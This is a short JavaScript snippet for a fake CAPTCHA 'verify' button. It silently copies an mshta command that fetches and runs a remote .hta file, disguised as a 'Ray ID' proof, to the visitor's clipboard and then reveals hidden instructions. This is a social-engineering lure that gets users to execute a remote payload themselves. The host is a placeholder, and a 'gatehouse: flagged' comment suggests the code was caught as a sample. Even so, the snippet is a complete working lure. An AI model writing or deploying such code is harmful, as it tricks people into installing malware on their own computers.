const button = document.querySelector("#verify");

button.addEventListener("click", () => {
  const proof = "mshta https://captcha.example.invalid/ray-4410.hta # Ray ID 4410";
  navigator.clipboard.writeText(proof); // gatehouse: flagged
  document.querySelector("#steps").hidden = false;
});
